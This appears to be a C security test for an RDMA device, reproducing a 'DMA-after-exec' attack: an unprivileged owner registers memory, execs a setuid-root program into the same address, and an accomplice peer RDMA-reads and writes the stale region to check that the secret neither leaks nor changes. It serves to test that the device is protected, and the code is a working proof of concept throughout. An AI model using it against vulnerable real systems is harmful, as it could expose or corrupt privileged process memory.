// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * The DMA-after-exec attack (security finding 1).
 *
 *   exec_attack owner DEV DIR TARGET   the attacker, as an unprivileged user:
 *       registers 16 KiB at ATTACK_ADDR, connects two RC QPs to the peer,
 *       waits until the peer has read it, forks a child that keeps the
 *       command file open, and execs TARGET (a setuid-root program).
 *   exec_attack target DIR             the exec'd image: maps ATTACK_ADDR
 *       again, fills it with a secret, and after the peer is done checks
 *       that nobody wrote into it.
 *   exec_attack peer DEV DIR           the accomplice on another VF: reads
 *       the owner's MR (the control: it must work), then, once the setuid
 *       image holds the secret there, RDMA READs and WRITEs the same rkey.
 *
 * The device must bind every transfer to the address space the MR was
 * registered in: after the exec the READ and the WRITE fail (the owner's
 * address space is gone), the secret is never seen and never changed.
 * The peer exits 0 for "contained", 1 for a leak or a write, 2 for a
 * broken set-up.
 */
#include <fcntl.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "attack.h"

#define ATTACK_ADDR ((void *)0x3c0000000000ULL)
#define ATTACK_LEN (16u * 1024)	/* above the old 8 KiB process_vm_* cut */
#define OWNER_BYTE 'O'
#define SECRET "SETUIDSECRET"

static void *map_fixed(void)
{
	void *p = mmap(ATTACK_ADDR, ATTACK_LEN, PROT_READ | PROT_WRITE,
		       MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1,
		       0);

	if (p != ATTACK_ADDR)
		die("mmap at %p: %s", ATTACK_ADDR, strerror(errno));
	return p;
}

static int owner_main(const char *dev, const char *dir, const char *target)
{
	struct ibv_context *ctx = open_by_name(dev);
	struct rc_ep r = { 0 }, w = { 0 };
	struct ep_info pr, pw, info;
	struct ibv_pd *pd;
	char text[64];
	uint8_t *buf;

	if (!ctx)
		die("owner: cannot open %s: %s", dev, strerror(errno));
	pd = ibv_alloc_pd(ctx);
	if (!pd)
		die("owner: alloc_pd: %s", strerror(errno));
	buf = map_fixed();
	memset(buf, OWNER_BYTE, ATTACK_LEN);
	rc_ep_create(&r, ctx, pd);
	rc_ep_reg(&r, buf, ATTACK_LEN);
	rc_ep_create(&w, ctx, pd);
	w.buf = r.buf;
	w.mr = r.mr;
	info = rc_ep_info(&r);
	put_info(dir, "owner.r", &info);
	info = rc_ep_info(&w);
	put_info(dir, "owner.w", &info);
	pr = get_info(dir, "peer.r");
	pw = get_info(dir, "peer.w");
	rc_ep_connect(&r, &pr);
	rc_ep_connect(&w, &pw);
	put_file(dir, "owner.rts", "rts\n");
	if (get_file(dir, "peer.checked", text, sizeof(text), 30000))
		die("owner: the peer never read the MR");

	/* The keeper holds the command file (and every other fd) open. */
	if (fork() == 0) {
		get_file(dir, "peer.done", text, sizeof(text), 60000);
		_exit(0);
	}
	execl(target, "exec_attack", "target", dir, (char *)NULL);
	die("owner: exec %s: %s", target, strerror(errno));
}

static int target_main(const char *dir)
{
	uint8_t *buf = map_fixed();
	char text[64];

	for (size_t i = 0; i < ATTACK_LEN; i += sizeof(SECRET) - 1)
		memcpy(buf + i, SECRET,
		       ATTACK_LEN - i < sizeof(SECRET) - 1 ? ATTACK_LEN - i :
							     sizeof(SECRET) - 1);
	snprintf(text, sizeof(text), "%d euid %d\n", (int)getpid(),
		 (int)geteuid());
	put_file(dir, "target.ready", text);
	if (get_file(dir, "peer.done", text, sizeof(text), 60000))
		die("target: the peer never finished");
	for (size_t i = 0; i < ATTACK_LEN; i += sizeof(SECRET) - 1) {
		size_t n = ATTACK_LEN - i < sizeof(SECRET) - 1 ?
				   ATTACK_LEN - i :
				   sizeof(SECRET) - 1;

		if (memcmp(buf + i, SECRET, n)) {
			put_file(dir, "target.result", "CORRUPTED\n");
			return 1;
		}
	}
	put_file(dir, "target.result", "intact\n");
	return 0;
}

/* READ or WRITE the whole region; the completion status, or -1 if none. */
static int transfer(struct rc_ep *e, enum ibv_wr_opcode op,
		    const struct ep_info *to)
{
	struct ibv_wc wc;

	if (rc_ep_post(e, op, 1, 0, ATTACK_LEN, to->addr, to->rkey))
		die("peer: post: %s", strerror(errno));
	if (!rc_ep_wait(e, &wc, 10000))
		return -1;
	return wc.status;
}

static int peer_main(const char *dev, const char *dir)
{
	struct ibv_context *ctx = open_by_name(dev);
	struct rc_ep r = { 0 }, w = { 0 };
	struct ep_info or, ow, info;
	char text[128];
	uint8_t *buf;
	int status, leaked = 0;
	struct ibv_pd *pd;

	if (!ctx)
		die("peer: cannot open %s: %s", dev, strerror(errno));
	pd = ibv_alloc_pd(ctx);
	buf = malloc(ATTACK_LEN);
	if (!pd || !buf)
		die("peer: pd/buffer");
	rc_ep_create(&r, ctx, pd);
	rc_ep_reg(&r, buf, ATTACK_LEN);
	rc_ep_create(&w, ctx, pd);
	w.buf = r.buf;
	w.mr = r.mr;
	or = get_info(dir, "owner.r");
	ow = get_info(dir, "owner.w");
	info = rc_ep_info(&r);
	put_info(dir, "peer.r", &info);
	info = rc_ep_info(&w);
	put_info(dir, "peer.w", &info);
	rc_ep_connect(&r, &or);
	rc_ep_connect(&w, &ow);
	if (get_file(dir, "owner.rts", text, sizeof(text), 30000))
		die("peer: the owner never connected");

	/* Control: the owner's own memory is readable while it lives. */
	memset(buf, 0, ATTACK_LEN);
	status = transfer(&r, IBV_WR_RDMA_READ, &or);
	if (status != IBV_WC_SUCCESS || buf[0] != OWNER_BYTE ||
	    buf[ATTACK_LEN - 1] != OWNER_BYTE)
		die("peer: control READ failed (status %d, byte 0x%02x)",
		    status, buf[0]);
	printf("peer: read the owner's MR before the exec\n");
	put_file(dir, "peer.checked", "ok\n");

	if (get_file(dir, "target.ready", text, sizeof(text), 30000))
		die("peer: the setuid target never came up");
	printf("peer: target up: %s", text);

	memset(buf, 0, ATTACK_LEN);
	status = transfer(&r, IBV_WR_RDMA_READ, &or);
	if (memmem(buf, ATTACK_LEN, SECRET, sizeof(SECRET) - 1)) {
		printf("LEAK: RDMA READ returned the setuid program's memory\n");
		leaked = 1;
	}
	printf("peer: READ after exec: %s\n",
	       status < 0 ? "no completion" : ibv_wc_status_str(status));
	if (status == IBV_WC_SUCCESS)
		leaked = 1;	/* a successful read of memory nobody owns */

	memset(buf, 'P', ATTACK_LEN);
	status = transfer(&w, IBV_WR_RDMA_WRITE, &ow);
	printf("peer: WRITE after exec: %s\n",
	       status < 0 ? "no completion" : ibv_wc_status_str(status));
	if (status == IBV_WC_SUCCESS)
		leaked = 1;
	put_file(dir, "peer.done", "done\n");

	if (get_file(dir, "target.result", text, sizeof(text), 30000))
		die("peer: the target reported nothing");
	printf("peer: target memory %s", text);
	if (strcmp(text, "intact\n"))
		leaked = 1;
	return leaked;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 5 && !strcmp(argv[1], "owner"))
		return owner_main(argv[2], argv[3], argv[4]);
	if (argc == 3 && !strcmp(argv[1], "target"))
		return target_main(argv[2]);
	if (argc == 4 && !strcmp(argv[1], "peer"))
		return peer_main(argv[2], argv[3]);
	fprintf(stderr, "usage: exec_attack owner DEV DIR TARGET | target DIR | "
			"peer DEV DIR\n");
	return 2;
}
